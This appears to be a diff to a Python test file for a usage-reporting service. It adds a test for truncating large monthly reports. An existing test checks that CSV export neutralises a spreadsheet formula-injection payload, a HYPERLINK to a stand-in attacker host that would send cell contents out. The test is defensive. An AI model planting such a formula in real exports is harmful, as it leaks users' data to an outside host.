@@ -28,6 +28,8 @@ from tests.running import Running, running
 NOW = datetime(2026, 10, 24, 21, 0, tzinfo=UTC)
 """An hour before midnight in Berlin, on the eve of a day of 25 hours."""
 MONTH = "2026-10"
+MOST_LINES = 5_000
+"""What one answer tells of, as the description says."""
 
 
 @pytest.fixture(scope="module")
@@ -126,18 +128,38 @@ def test_the_table_has_the_sessions_and_the_zones_times(plane: Running) -> None:
     assert person.get("usage/csv").text.count("\r\n") == 1, "this month there is only the header"
 
 
+def test_of_more_than_fits_the_newest_is_told_and_that_there_is_more(plane: Running) -> None:
+    person = Person(plane, "toiler")
+    bid = bid_of(plane, person)
+    first, busy = worked(plane, person, minutes=5), new_id("s-")
+    with environment(plane.env):
+        line = _line(bid, first)
+        for start in range(0, MOST_LINES, 500):
+            commit = Commit()
+            for n in range(start, start + 500):
+                begun = NOW + timedelta(seconds=400 + n)
+                short = Interval(begun, begun + timedelta(seconds=1))
+                newer = replace(line, sid=busy, n=n, ms=1000, intervals=[short], at=short.until)
+                commit.create(line_ref(bid, newer), newer)
+            commit.run()
+    found = usage(person, MONTH)
+    assert found["more"] is True
+    assert [(each["session"], each["seconds"]) for each in found["sessions"]] == [(busy, MOST_LINES)]
+    assert person.get(f"usage/csv?month={MONTH}").text.count("\r\n") == 2
+
+
 def test_no_text_of_a_record_becomes_a_formula(plane: Running) -> None:
     person = Person(plane, "trickster")
     sid = worked(plane, person, minutes=5)
     with environment(plane.env):
         bid = bid_of(plane, person)
-        evil = replace(_line(plane, bid, sid), n=1, plan='=HYPERLINK("http://evil.example/"&A1)')
+        evil = replace(_line(bid, sid), n=1, plan='=HYPERLINK("http://evil.example/"&A1)')
         Commit().create(line_ref(bid, evil), evil).run()
     [row] = csv.DictReader(io.StringIO(person.get(f"usage/csv?month={MONTH}").text, newline=""))
     assert row["plan"] == '\'=HYPERLINK("http://evil.example/"&A1)'
 
 
-def _line(plane: Running, bid: str, sid: str) -> LedgerLine:
+def _line(bid: str, sid: str) -> LedgerLine:
     found = read(billing_ref(bid).collection("lines").document(f"{sid}-0"), LedgerLine)
     assert found
     return found.record
